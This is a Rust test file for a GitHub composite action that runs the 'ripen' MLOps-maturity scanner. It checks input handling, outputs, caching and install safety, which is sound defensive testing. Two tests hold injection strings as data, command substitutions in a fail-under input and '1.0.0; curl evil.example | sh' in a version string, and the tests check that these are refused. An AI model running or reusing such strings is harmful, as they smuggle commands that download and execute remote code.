//! The composite action (`action.yml`) and its scripts (`action/*.sh`), exercised the way a
//! GitHub runner would: inputs as `INPUT_*` environment variables, `$GITHUB_OUTPUT`,
//! `$GITHUB_STEP_SUMMARY` and `$RUNNER_TEMP` as files, and ripen from this build.

use serde_json::Value;
use std::path::PathBuf;
use std::process::Command;

fn repo() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

fn action() -> Value {
    let text = std::fs::read_to_string(repo().join("action.yml")).unwrap();
    serde_saphyr::from_str(&text).unwrap()
}

#[test]
fn inputs_reach_shell_only_through_env() {
    let a = action();
    let steps = a["runs"]["steps"].as_array().unwrap();
    assert_eq!(a["runs"]["using"], "composite");
    for s in steps {
        if let Some(run) = s["run"].as_str() {
            assert!(!run.contains("${{"), "expression inside run: {run}");
            assert_eq!(s["shell"], "bash");
        }
        if let Some(uses) = s["uses"].as_str() {
            let (_, rev) = uses.split_once('@').expect("pinned");
            assert!(
                rev.len() == 40 && rev.chars().all(|c| c.is_ascii_hexdigit()),
                "{uses} is pinned by commit SHA"
            );
        }
    }
    for input in [
        "path",
        "fail-under",
        "format",
        "sarif-file",
        "config",
        "rules",
        "version",
    ] {
        assert!(a["inputs"].get(input).is_some(), "input {input}");
    }
    for output in ["google-level", "azure-level", "report-json"] {
        assert!(
            a["outputs"][output]["value"]
                .as_str()
                .unwrap()
                .contains("steps.scan.outputs."),
            "output {output}"
        );
    }
}

fn scan_sh(env: &[(&str, &str)]) -> (i32, String, String, PathBuf, tempfile::TempDir) {
    let tmp = tempfile::tempdir().unwrap();
    let output = tmp.path().join("output");
    let summary = tmp.path().join("summary.md");
    let mut c = Command::new("bash");
    c.arg(repo().join("action/scan.sh"))
        .current_dir(repo())
        .env("RIPEN_BIN", assert_cmd::cargo::cargo_bin("ripen"))
        .env("GITHUB_ACTIONS", "true")
        .env("GITHUB_OUTPUT", &output)
        .env("GITHUB_STEP_SUMMARY", &summary)
        .env("RUNNER_TEMP", tmp.path())
        .env("NO_COLOR", "1")
        .env_remove("RIPEN_TODAY");
    for k in [
        "INPUT_PATH",
        "INPUT_FAIL_UNDER",
        "INPUT_FORMAT",
        "INPUT_SARIF_FILE",
        "INPUT_CONFIG",
        "INPUT_RULES",
    ] {
        c.env_remove(k);
    }
    for (k, v) in env {
        c.env(k, v);
    }
    let out = c.output().unwrap();
    let outputs = std::fs::read_to_string(&output).unwrap_or_default();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).to_string(),
        outputs,
        summary,
        tmp,
    )
}

#[test]
fn scan_step_sets_outputs_writes_reports_and_passes_the_exit_code() {
    let sarif = tempfile::NamedTempFile::new().unwrap();
    let (code, stdout, outputs, summary, _tmp) = scan_sh(&[
        ("INPUT_PATH", "fixtures/dvc-mlflow"),
        ("INPUT_FAIL_UNDER", "azure=2, google=1"),
        ("INPUT_SARIF_FILE", sarif.path().to_str().unwrap()),
    ]);
    assert_eq!(code, 0, "{stdout}");
    assert!(
        stdout.starts_with("ripen "),
        "format github by default: {stdout}"
    );
    assert!(
        outputs.contains("google-level=1\n") && outputs.contains("azure-level=2\n"),
        "{outputs}"
    );
    let json_path = outputs
        .lines()
        .find_map(|l| l.strip_prefix("report-json="))
        .expect("report-json output");
    let report: Value = serde_json::from_str(&std::fs::read_to_string(json_path).unwrap()).unwrap();
    assert_eq!(report["models"]["azure"]["level"], 2);
    assert_eq!(report["targets"].as_array().unwrap().len(), 2);
    let sarif: Value =
        serde_json::from_str(&std::fs::read_to_string(sarif.path()).unwrap()).unwrap();
    assert_eq!(sarif["version"], "2.1.0");
    assert!(
        std::fs::read_to_string(summary)
            .unwrap()
            .contains("## ripen: MLOps maturity")
    );

    let (code, _, outputs, _, _tmp) = scan_sh(&[
        ("INPUT_PATH", "fixtures/ci-only"),
        ("INPUT_FAIL_UNDER", "azure=3"),
        ("INPUT_FORMAT", "text"),
    ]);
    assert_eq!(code, 1, "a target not met fails the step");
    assert!(
        outputs.contains("azure-level=1\n"),
        "outputs are written all the same: {outputs}"
    );

    let (code, _, _, _, _tmp) =
        scan_sh(&[("INPUT_PATH", "fixtures/ci-only"), ("INPUT_FORMAT", "pdf")]);
    assert_eq!(code, 2, "a usage error is exit 2");
}

#[test]
fn hostile_inputs_stay_arguments() {
    let marker = repo().join("target/pwned-by-input");
    let _ = std::fs::remove_file(&marker);
    let (code, _, _, _, _tmp) = scan_sh(&[
        ("INPUT_PATH", "fixtures/ci-only"),
        (
            "INPUT_FAIL_UNDER",
            "azure=1 $(touch target/pwned-by-input) `touch target/pwned-by-input` *",
        ),
    ]);
    assert_eq!(
        code, 2,
        "the junk is refused by ripen as a bad --fail-under value"
    );
    assert!(!marker.exists(), "nothing was executed");
}

#[test]
fn install_refuses_a_malformed_version_before_any_download() {
    let tmp = tempfile::tempdir().unwrap();
    let out = Command::new("bash")
        .arg(repo().join("action/install.sh"))
        .env("RIPEN_DIR", tmp.path())
        .env("RIPEN_VERSION", "1.0.0; curl evil.example | sh")
        .env("RIPEN_REPOSITORY", "owner/ripen")
        .env("GITHUB_PATH", tmp.path().join("path"))
        .env("PATH", "/usr/bin:/bin")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("version must be a release number"));
    let out = Command::new("bash")
        .arg(repo().join("action/install.sh"))
        .env("RIPEN_DIR", tmp.path())
        .env("RIPEN_VERSION", "0.2.0")
        .env("RIPEN_REPOSITORY", "")
        .env("GITHUB_PATH", tmp.path().join("path"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn cache_key_follows_the_source() {
    let tmp = tempfile::tempdir().unwrap();
    let run = || {
        let out = tmp.path().join("out");
        let _ = std::fs::remove_file(&out);
        let status = Command::new("bash")
            .arg(repo().join("action/cache-key.sh"))
            .env("GITHUB_ACTION_PATH", repo())
            .env("GITHUB_OUTPUT", &out)
            .env("RUNNER_OS", "Linux")
            .env("RUNNER_ARCH", "X64")
            .status()
            .unwrap();
        assert!(status.success());
        std::fs::read_to_string(&out).unwrap()
    };
    let a = run();
    assert!(a.contains("\nkey=ripen-Linux-X64-"), "{a}");
    assert!(a.starts_with("dir="), "{a}");
    assert_eq!(a, run(), "stable for the same source");
}

#[test]
fn pre_commit_hook_runs_ripen() {
    let text = std::fs::read_to_string(repo().join(".pre-commit-hooks.yaml")).unwrap();
    let hooks: Value = serde_saphyr::from_str(&text).unwrap();
    let h = &hooks[0];
    assert_eq!(h["id"], "ripen");
    assert_eq!(h["language"], "python");
    assert_eq!(h["pass_filenames"], false);
    assert!(h["entry"].as_str().unwrap().starts_with("ripen scan"));
}
